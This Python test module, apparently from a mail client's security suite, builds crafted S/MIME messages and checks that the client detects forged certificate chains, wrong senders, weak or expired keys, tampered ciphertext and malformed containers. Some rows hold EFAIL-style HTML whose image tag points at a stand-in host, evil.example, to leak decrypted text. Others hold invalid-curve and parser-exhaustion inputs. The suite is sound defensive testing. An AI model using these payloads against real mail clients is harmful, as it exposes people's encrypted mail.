"""S/MIME: certificates that do not say what they should, and containers that anybody may alter.

Sue's certificate is vouched for by an authority that Alice trusts, through another one; Alice has a
certificate of her own. Bob has an OpenPGP key that she has confirmed, and no certificate.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec

from mailclient.crypto.smime.passing import passed
from mailclient.message.security import SignatureWord, State
from tests.attacks.certificates import (
    SERVER,
    SHA1,
    TRIPLE_DES,
    Holder,
    Pen,
    Wish,
    cbc,
    double,
    ec_key,
    gcm,
    in_pieces,
    made,
    p7m,
    p7s,
    rsa_key,
    signed_data,
)
from tests.attacks.conftest import ALICE, BOB, MALLORY, TEXT, Desk
from tests.attacks.table import EVIL, Row, html, multipart

SUE, SAM = "sue@example.org", "sam@example.org"
GOOD, NONE, BAD = SignatureWord.GOOD, SignatureWord.NONE, SignatureWord.BAD
UNKNOWN, WRONG = SignatureWord.UNKNOWN_KEY, SignatureWord.WRONG_SENDER


@dataclass(slots=True)
class Safe:
    """The certificates of everybody, made once for each desk."""

    root: Holder
    between: Holder
    alice: Holder
    other: Holder  # somebody whose key is not here
    curved: Holder  # another one of Alice's, for agreeing on a key
    people: dict[str, Holder] = field(default_factory=dict)

    def person(self, wish: Wish, by: Holder | None = None) -> Holder:
        """A certificate by an authority, the trusted one if none is named."""
        if wish.name not in self.people:
            self.people[wish.name] = made(wish, by or self.between)
        return self.people[wish.name]

    @property
    def sue(self) -> Holder:
        return self.person(Wish("Sue", (SUE,)))

    def chain(self, *more: Holder) -> tuple[Holder, ...]:
        return (self.between, *more)


_SAFES: dict[int, Safe] = {}


def safe(desk: Desk) -> Safe:
    """Alice trusts one authority, and has a certificate by it."""
    if id(desk) not in _SAFES:
        root = made(Wish("Root of Example", authority=True))
        between = made(Wish("Example for People", authority=True, path_length=0), root)
        alice = made(Wish("Alice", (ALICE,)), between, rsa_key())
        other = made(Wish("Other", ("other@example.org",)), between, rsa_key())
        desk.app.keys.import_keys(root.pem)
        desk.app.keys.import_keys(alice.p12(None))
        curved = made(Wish("Alice, curved", (ALICE,), agreement=True), between)
        desk.app.keys.import_keys(curved.p12(None))
        _SAFES[id(desk)] = Safe(root, between, alice, other, curved)
    return _SAFES[id(desk)]


def detached(desk: Desk, by: Holder, entity: bytes = TEXT, **how: object) -> bytes:
    """An entity under a signature, with the way up to the authority."""
    pen = Pen(by, **how)  # type: ignore[arg-type]
    return p7s(entity, signed_data(entity, pen, more=safe(desk).chain(), detached=True))


def letter(build: Callable[[Desk, Safe], bytes], sender: str = SUE) -> Callable[[Desk], bytes]:
    """A letter whose body is built from the safe."""
    return lambda desk: desk.letter(build(desk, safe(desk)), From=sender)


def signed_by(wish: Wish, by: Callable[[Safe], Holder | None] | None = None, **how: object):  # type: ignore[no-untyped-def]
    """A letter of Sue's, signed with a certificate that was made by a wish."""

    def build(desk: Desk, kept: Safe) -> bytes:
        authority = by(kept) if by is not None else kept.between
        if wish.name not in kept.people:
            kept.people[wish.name] = made(wish, authority)
        holder = kept.people[wish.name]
        chain = [one for one in (*kept.chain(), authority) if one is not None]
        pen = Pen(holder, **how)  # type: ignore[arg-type]
        return p7s(TEXT, signed_data(TEXT, pen, more=chain, detached=True))

    return letter(build)


def authority(wish: Wish, parent: Callable[[Safe], Holder] = lambda kept: kept.root):  # type: ignore[no-untyped-def]
    """An authority beneath another one."""

    def make(kept: Safe) -> Holder:
        if wish.name not in kept.people:
            kept.people[wish.name] = made(wish, parent(kept))
        return kept.people[wish.name]

    return make


def judged(
    word: str, build: Callable[[Desk, Safe], tuple[bytes, Holder]]
) -> Callable[[Desk], bytes]:
    """A letter of Sam's, whose certificate Alice has judged."""

    def whole(desk: Desk) -> bytes:
        entity, holder = build(desk, safe(desk))
        desk.app.keys.import_keys(holder.pem)
        desk.app.keys.trust(holder.fingerprint, SAM, word)
        return desk.letter(entity, From=SAM)

    return whole


def self_made(name: str) -> Callable[[Desk, Safe], tuple[bytes, Holder]]:
    def build(desk: Desk, kept: Safe) -> tuple[bytes, Holder]:
        holder = kept.people.setdefault(name, made(Wish(name, (SAM,))))
        return detached(desk, holder), holder

    return build


def vouched_and_refused(desk: Desk, kept: Safe) -> tuple[bytes, Holder]:
    holder = kept.person(Wish("Sam refused", (SAM,)))
    return detached(desk, holder), holder


def constrained(permitted: str) -> x509.NameConstraints:
    return x509.NameConstraints([x509.RFC822Name(permitted)], None)


def two_signers(desk: Desk, first: Pen, second: Pen) -> bytes:
    cms = signed_data(TEXT, first, second, more=safe(desk).chain(), detached=True)
    return p7s(TEXT, cms)


def off_the_curve(key: bytes, curved: Holder) -> list[bytes]:
    """The key, agreed on with a point that is on another curve: it would give the secret away."""
    info = passed(key, curved.certificate)
    at = info.index(b"\x03\x42\x00\x04") + 4  # 32 bytes of x, and then of y
    return [info[: at + 63] + bytes([info[at + 63] ^ 1]) + info[at + 64 :]]


def three_des(desk: Desk, entity: bytes, **how: object) -> bytes:
    """An entity encrypted to Alice as it was done of old."""
    return p7m(cbc(entity, safe(desk).alice, by=TRIPLE_DES, **how))  # type: ignore[arg-type]


def flipped(desk: Desk, entity: bytes) -> bytes:
    """The same with one bit of the text flipped: so one block is lost, and one bit of the next."""
    return three_des(desk, entity, flip=entity.index(b"lilac") - 8)


def many_ways(kept: Safe) -> bytes:
    """A signature whose authority has sixty doubles, each above each other."""
    key = ec_key()
    doubles = [made(Wish("Double", authority=True), key=key) for _ in range(60)]
    sue = kept.people.setdefault("many", made(Wish("Sue of many", (SUE,)), doubles[0]))
    pens = [Pen(sue)] * 16
    return p7s(TEXT, signed_data(TEXT, *pens, more=doubles, detached=True))


def spoiled(what: str) -> Callable[[Desk, Safe], bytes]:
    """A signature whose certificates have something in them that no certificate has."""
    old, new = _SPOILED[what]

    def build(desk: Desk, kept: Safe) -> bytes:
        holder = kept.person(Wish(f"Sue with {what}", (SUE,)))  # one that no other mail brings
        cms = signed_data(TEXT, Pen(holder), more=kept.chain(), detached=True)
        return p7s(TEXT, cms.replace(old, new))

    return build


_SPOILED = {
    "a version that there is not": (b"\xa0\x03\x02\x01\x02", b"\xa0\x03\x02\x01\x09"),
    "an extension twice": (b"\x06\x03\x55\x1d\x0e", b"\x06\x03\x55\x1d\x13"),
    "a name of a kind that is not read": (b"\x81\x0fsue@", b"\xa3\x0fsue@"),
}
HTML = html('<p>Meet me at the lilac gate.</p><img src="http://evil.example/?">')
LATE = datetime.now(UTC) - timedelta(hours=5)

ROWS = (
    # What is right
    Row("S/MIME: signed, vouched for", letter(lambda d, s: detached(d, s.sue)),
        State.SIGNED, GOOD, shows="lilac"),
    Row("S/MIME: signed, with the old name of the type", letter(lambda d, s: detached(
        d, s.sue).replace(b"application/pkcs7", b"application/x-pkcs7")),
        State.SIGNED, GOOD, shows="lilac"),
    Row("S/MIME: signed within one part", letter(lambda d, s: p7m(signed_data(
        TEXT, Pen(s.sue), more=s.chain(), detached=False), "signed-data")),
        State.SIGNED, GOOD, shows="lilac"),
    Row("S/MIME: signed within one part, in pieces of unknown length", letter(
        lambda d, s: p7m(in_pieces(TEXT, Pen(s.sue), s.chain()), "signed-data")),
        State.SIGNED, GOOD, shows="lilac"),
    Row("S/MIME: encrypted, signed inside", letter(lambda d, s: p7m(cbc(
        detached(d, s.sue), s.alice), "enveloped-data")), State.ENCRYPTED_SIGNED, GOOD,
        shows="lilac"),
    Row("S/MIME: encrypted and guarded, signed inside", letter(lambda d, s: p7m(gcm(
        detached(d, s.sue), s.alice), "authenveloped-data")), State.ENCRYPTED_SIGNED, GOOD,
        shows="lilac"),
    Row("S/MIME: encrypted and guarded, not signed", letter(lambda d, s: p7m(gcm(
        TEXT, s.alice), "authenveloped-data")), State.ENCRYPTED, shows="lilac"),
    Row("S/MIME: encrypted to two, one of them Alice", letter(lambda d, s: p7m(gcm(
        TEXT, s.other, s.alice), "authenveloped-data")), State.ENCRYPTED, shows="lilac"),
    Row("S/MIME: a certificate without authority that Alice confirmed", judged(
        "verified", self_made("Sam by himself, confirmed")), State.SIGNED_VERIFIED, GOOD,
        shows="lilac"),
    # Who vouches
    Row("S/MIME: a certificate without authority", letter(lambda d, s: detached(
        d, made(Wish("Sue by herself", (SUE,))))), signature=UNKNOWN, shows="lilac"),
    Row("S/MIME: an authority that nobody knows", signed_by(
        Wish("Sue of nowhere", (SUE,)), lambda s: s.people.setdefault(
            "Nowhere", made(Wish("Nowhere", authority=True)))), signature=UNKNOWN),
    Row("S/MIME: an authority of the same name as the trusted one", signed_by(
        Wish("Sue of a double", (SUE,)), lambda s: s.people.setdefault(
            "double", made(Wish("Root of Example", authority=True)))), signature=UNKNOWN),
    Row("S/MIME: a person who plays the authority", signed_by(
        Wish("Sue of Mallory", (SUE,)), lambda s: s.person(Wish("Mallory", (MALLORY,)))),
        signature=UNKNOWN),
    Row("S/MIME: an authority beneath one that may have none", signed_by(
        Wish("Sue too deep", (SUE,)), authority(
            Wish("Too deep", authority=True), lambda s: s.between)), signature=UNKNOWN),
    Row("S/MIME: an authority for other addresses", signed_by(
        Wish("Sue elsewhere", (SUE,)), authority(Wish("For elsewhere", authority=True, more=((
            constrained("example.net"), True),)))), signature=UNKNOWN),
    Row("S/MIME: an authority for these addresses", signed_by(
        Wish("Sue at home", (SUE,)), authority(Wish("For home", authority=True, more=((
            constrained("example.org"), True),)))), State.SIGNED, GOOD),
    Row("S/MIME: an authority that has ended", signed_by(
        Wish("Sue of the past", (SUE,)), authority(Wish(
            "Past", authority=True, days=(-300, -2)))), signature=UNKNOWN),
    Row("S/MIME: an authority with a rule that is not understood", signed_by(
        Wish("Sue of riddles", (SUE,)), authority(Wish("Riddles", authority=True, more=((
            x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.99999.1"), b"\x05\x00"),
            True),)))), signature=UNKNOWN),
    Row("S/MIME: refused by Alice, whoever vouches", judged("rejected", vouched_and_refused),
        signature=UNKNOWN),
    Row("S/MIME: vouched for, where another key was confirmed", lambda desk: desk.letter(
        detached(desk, safe(desk).person(Wish("Bob", (BOB,))))), signature=UNKNOWN,
        warns=("key-changed",)),
    # Whose it is
    Row("S/MIME: somebody else's certificate", letter(lambda d, s: detached(
        d, s.person(Wish("Mallory", (MALLORY,))))), signature=WRONG),
    Row("S/MIME: the sender only as the name", letter(lambda d, s: detached(
        d, s.person(Wish(SUE, (MALLORY,))))), signature=WRONG),
    Row("S/MIME: the sender in the subject beside another address", letter(lambda d, s: detached(
        d, s.person(Wish("Two places", (MALLORY,), subject_address=SUE)))), signature=WRONG),
    Row("S/MIME: no address at all", letter(lambda d, s: detached(
        d, s.person(Wish("Nobody")))), signature=WRONG),
    Row("S/MIME: a second sender", lambda desk: desk.letter(
        detached(desk, safe(desk).sue), From=f"{SUE}, {MALLORY}"), signature=WRONG),
    # What it is for, and when
    Row("S/MIME: a certificate that has ended", signed_by(
        Wish("Sue ended", (SUE,), days=(-300, -1))), signature=SignatureWord.EXPIRED_KEY),
    Row("S/MIME: a certificate that has not begun", signed_by(
        Wish("Sue to come", (SUE,), days=(1, 300))), signature=UNKNOWN),
    Row("S/MIME: signed before the certificate began", signed_by(
        Wish("Sue fresh", (SUE,), days=(0, 300)), at=datetime.now(UTC) - timedelta(minutes=40)),
        signature=UNKNOWN),
    Row("S/MIME: a certificate of a server", signed_by(
        Wish("Sue the server", (SUE,), purpose=SERVER)), signature=UNKNOWN),
    Row("S/MIME: a certificate that may not sign", signed_by(
        Wish("Sue without a pen", (SUE,), usage=False)), signature=UNKNOWN),
    Row("S/MIME: a certificate of an authority", letter(lambda d, s: detached(
        d, s.people.setdefault("Sue the authority", made(Wish(
            "Sue the authority", (SUE,), authority=True), s.root)))), signature=UNKNOWN),
    Row("S/MIME: a key of few bits", letter(lambda d, s: detached(
        d, s.people.setdefault("Sue the weak", made(Wish("Sue the weak", (SUE,)), s.between,
            rsa_key(1024))))), signature=SignatureWord.WEAK),
    Row("S/MIME: signed hours before the date", letter(lambda d, s: detached(
        d, s.sue, at=LATE)), signature=SignatureWord.WRONG_DATE),
    Row("S/MIME: signed without a time", letter(lambda d, s: detached(
        d, s.sue, dated=False)), signature=SignatureWord.WRONG_DATE),
    Row("S/MIME: nothing signed but the text", letter(lambda d, s: detached(
        d, s.sue, attributes=False)), signature=SignatureWord.WRONG_DATE),
    # What is signed
    Row("S/MIME: the text changed", letter(lambda d, s: detached(d, s.sue).replace(
        b"lilac", b"green")), signature=BAD, shows="green"),
    Row("S/MIME: the hash of another text", letter(lambda d, s: detached(
        d, s.sue, digest=bytes(32))), signature=BAD),
    Row("S/MIME: two hashes", letter(lambda d, s: detached(d, s.sue, twice=True)),
        signature=UNKNOWN),
    Row("S/MIME: SHA-1", letter(lambda d, s: detached(d, s.sue, hash=SHA1)),
        signature=SignatureWord.WEAK),
    Row("S/MIME: another kind of content", letter(lambda d, s: detached(
        d, s.sue, content_type="1.2.840.113549.1.9.16.1.4")), signature=UNKNOWN),
    Row("S/MIME: a signature that brings a text of its own", letter(lambda d, s: p7s(
        EVIL, signed_data(TEXT, Pen(s.sue), more=s.chain(), detached=False))),
        signature=UNKNOWN, shows="900"),
    Row("S/MIME: Mallory's good one beside a bad one by Sue", letter(lambda d, s: two_signers(
        d, Pen(s.person(Wish("Mallory", (MALLORY,)))), Pen(s.sue, digest=bytes(32)))),
        signature=WRONG),
    Row("S/MIME: Sue's good one beside a bad one by Mallory", letter(lambda d, s: two_signers(
        d, Pen(s.person(Wish("Mallory", (MALLORY,))), digest=bytes(32)), Pen(s.sue))),
        State.SIGNED, GOOD),
    Row("S/MIME: no signature packet but rubbish", letter(lambda d, s: p7s(TEXT, b"\x30\x03abc")),
        signature=UNKNOWN, shows="lilac"),
    # Which part of the message
    Row("S/MIME: a signed part beside another", letter(lambda d, s: multipart(
        "mixed", EVIL, detached(d, s.sue))), State.MIXED, shows="900"),
    Row("S/MIME: a part signed within, beside another", letter(lambda d, s: multipart(
        "mixed", EVIL, p7m(signed_data(TEXT, Pen(s.sue), more=s.chain(), detached=False),
        "signed-data"))), State.MIXED, shows="900"),
    Row("S/MIME: an encrypted part between pieces of HTML", letter(lambda d, s: multipart(
        "mixed", html('<img src="http://evil.example/'), p7m(cbc(TEXT, s.alice)), html('">'))),
        State.MIXED, hides=True),
    Row("S/MIME: a signature around the encryption", letter(lambda d, s: detached(
        d, s.sue, p7m(gcm(TEXT, s.alice), "authenveloped-data"))), State.ENCRYPTED,
        SignatureWord.UNCOVERED, shows="lilac"),
    Row("S/MIME: signed, encrypted, signed", letter(lambda d, s: detached(
        d, s.sue, p7m(gcm(detached(d, s.sue), s.alice), "authenveloped-data"))),
        State.ENCRYPTED_SIGNED, GOOD, shows="lilac"),
    Row("S/MIME: encrypted around a list's footer", letter(lambda d, s: p7m(gcm(multipart(
        "mixed", detached(d, s.sue), EVIL), s.alice), "authenveloped-data")), State.ENCRYPTED),
    # Encryption that guards nothing
    Row("S/MIME: encrypted, unguarded, not signed", letter(lambda d, s: p7m(cbc(
        TEXT, s.alice), "enveloped-data")), State.ENCRYPTED, shows="lilac",
        warns=("unguarded",)),
    Row("S/MIME: unguarded HTML that calls home", letter(lambda d, s: p7m(cbc(
        HTML, s.alice), "enveloped-data")), State.ENCRYPTED, shows="lilac",
        warns=("unguarded",)),
    Row("S/MIME: another beginning laid over the ciphertext", letter(lambda d, s: p7m(cbc(
        TEXT, s.alice, start=b"Content-Type: te"), "enveloped-data")), State.ENCRYPTED,
        warns=("unguarded",)),
    Row("S/MIME: another type laid over the ciphertext of signed mail", letter(lambda d, s: p7m(
        cbc(detached(d, s.sue), s.alice, start=b"Subject: a lie\r\n"), "enveloped-data")),
        State.ENCRYPTED, warns=("unguarded",)),
    Row("S/MIME: the end of an unguarded ciphertext is gone", letter(lambda d, s: p7m(cbc(
        TEXT, s.alice)[:-40], "enveloped-data")), State.BROKEN, hides=True),
    Row("S/MIME: a guarded ciphertext altered", letter(lambda d, s: p7m(gcm(
        TEXT, s.alice, tamper=True), "authenveloped-data")), State.BROKEN, hides=True),
    Row("S/MIME: a guard of one byte", letter(lambda d, s: p7m(gcm(
        TEXT, s.alice, tag=1), "authenveloped-data")), State.BROKEN, hides=True),
    Row("S/MIME: to somebody else", letter(lambda d, s: p7m(gcm(TEXT, s.other))), State.LOCKED,
        hides=True),
    Row("S/MIME: to somebody else whose key is one for agreeing", letter(lambda d, s: p7m(gcm(
        TEXT, s.person(Wish("Other of curves", ("other@example.org",)))))), State.LOCKED,
        hides=True),
    # Keys that are agreed on
    Row("S/MIME: by a key agreed on, signed inside", letter(lambda d, s: p7m(cbc(
        detached(d, s.sue), s.curved))), State.ENCRYPTED_SIGNED, GOOD, shows="lilac"),
    Row("S/MIME: by a key agreed on, guarded", letter(lambda d, s: p7m(gcm(TEXT, s.curved))),
        State.ENCRYPTED, shows="lilac"),
    Row("S/MIME: to Alice by name, by somebody else's key", letter(lambda d, s: p7m(cbc(
        TEXT, double(s.alice, s.other.key)))), State.BROKEN, hides=True),
    Row("S/MIME: to Alice by name, agreed on with somebody else's key", letter(lambda d, s: p7m(
        cbc(TEXT, double(s.curved, ec_key())))), State.BROKEN, hides=True),
    Row("S/MIME: agreed on with a point off the curve", letter(lambda d, s: p7m(cbc(
        TEXT, recipients=lambda key: off_the_curve(key, s.curved)))), State.BROKEN, hides=True),
    Row("S/MIME: a key of another curve for Alice's", letter(lambda d, s: p7m(cbc(
        TEXT, double(s.curved, ec.generate_private_key(ec.SECP384R1()))))), State.BROKEN,
        hides=True),
    Row("S/MIME: one certificate named a thousand times", letter(lambda d, s: p7m(cbc(
        TEXT, recipients=lambda key: [passed(key, double(s.alice, s.other.key).certificate)] * 1000
        ))), State.BROKEN, hides=True),
    Row("S/MIME: more recipients than anybody writes to", letter(lambda d, s: p7m(cbc(
        TEXT, recipients=lambda key: [passed(key, s.alice.certificate)] * 1001))), State.BROKEN,
        hides=True),
    Row("S/MIME: sixteen signatures and sixty authorities above each", letter(
        lambda d, s: many_ways(s)), signature=UNKNOWN),
    # Ciphers of old
    Row("S/MIME: by triple DES, not signed", letter(lambda d, s: three_des(d, TEXT)),
        State.ENCRYPTED, shows="lilac", warns=("unguarded", "old-cipher")),
    Row("S/MIME: by triple DES, signed inside", letter(lambda d, s: three_des(d, detached(
        d, s.sue))), State.ENCRYPTED_SIGNED, GOOD, shows="lilac", warns=("old-cipher",)),
    Row("S/MIME: by triple DES, HTML that calls home", letter(lambda d, s: three_des(d, HTML)),
        State.ENCRYPTED, shows="lilac", warns=("unguarded", "old-cipher")),
    Row("S/MIME: by triple DES, another beginning laid over it", letter(lambda d, s: three_des(
        d, detached(d, s.sue), start=b"Subject:")), State.ENCRYPTED,
        warns=("unguarded", "old-cipher")),
    Row("S/MIME: by triple DES, a bit of the signed text flipped", letter(
        lambda d, s: flipped(d, detached(d, s.sue))), State.ENCRYPTED, BAD,
        warns=("unguarded", "old-cipher")),
    Row("S/MIME: by triple DES, a bit of the last block flipped", letter(lambda d, s: three_des(
        d, TEXT, flip=-1)), State.BROKEN, hides=True),
    # Containers
    Row("S/MIME: signed, and calls itself encrypted", letter(lambda d, s: p7m(signed_data(
        TEXT, Pen(s.sue), more=s.chain(), detached=False), "enveloped-data")), State.SIGNED, GOOD),
    Row("S/MIME: encrypted, and calls itself signed", letter(lambda d, s: p7m(gcm(
        TEXT, s.alice), "signed-data")), State.ENCRYPTED, shows="lilac"),
    Row("S/MIME: deeper than anybody reads", letter(lambda d, s: p7m(
        b"\x30\x80" * 5_000, "enveloped-data")), State.BROKEN),
    Row("S/MIME: longer than there are bytes", letter(lambda d, s: p7m(
        b"\x30\x84\xff\xff\xff\xff", "enveloped-data")), State.BROKEN),
    Row("S/MIME: certificates alone", letter(lambda d, s: p7m(signed_data(
        b"", more=(s.sue, s.between), detached=True), "certs-only"))),
    *(Row(f"S/MIME: a certificate with {what}", letter(spoiled(what)), State.UNPROTECTED, UNKNOWN,
          shows="lilac") for what in _SPOILED),
)  # fmt: skip
